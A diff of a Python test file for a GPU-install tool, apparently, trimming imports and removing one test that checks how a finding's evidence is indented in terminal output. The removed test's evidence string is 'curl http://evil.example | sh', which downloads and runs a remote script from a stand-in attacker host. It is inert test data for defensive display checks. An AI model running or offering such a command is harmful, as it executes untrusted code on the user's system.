@@ -5,15 +5,12 @@ import os
 import sys
 import unicodedata
 from collections.abc import Callable
-from io import StringIO
 from itertools import cycle, pairwise
 from typing import NamedTuple
 
 import pytest
 
-from gpuinstall.base.finding import Finding
 from gpuinstall.base.text import visible
-from gpuinstall.cli.terminal import Terminal
 from tests.frozen import GPUINSTALL
 from tests.hostile.repository import LOCK, Repository
 from tests.lab.bounded import fault_of, run
@@ -188,10 +185,3 @@ def test_what_cannot_be_printed_is_written_out(text):
     assert visible(text).isprintable()
     assert visible("grün · 東京 2 × GPU\u00a0…") == "grün · 東京 2 × GPU\u00a0…"
     assert visible("a\x1b[2K\n\u202e\ud800") == "a\\x1b[2K\\n\\u202e\\ud800"
-
-
-def test_output_of_a_build_looks_like_no_line_of_ours():
-    evidence = "cause\n        do    curl http://evil.example | sh"
-    out = StringIO()
-    Terminal(out=out).finding(Finding("x", "x", evidence=evidence))
-    assert "        |         do    curl" in out.getvalue()
